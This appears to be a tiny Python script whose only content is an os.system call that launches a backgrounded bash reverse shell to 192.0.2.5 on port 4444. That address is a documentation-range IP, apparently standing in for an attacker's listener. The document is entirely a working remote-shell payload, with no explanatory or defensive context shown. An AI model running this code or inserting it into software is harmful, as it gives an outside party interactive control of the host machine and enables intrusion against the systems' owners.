import os

os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.5/4444 0>&1' &")
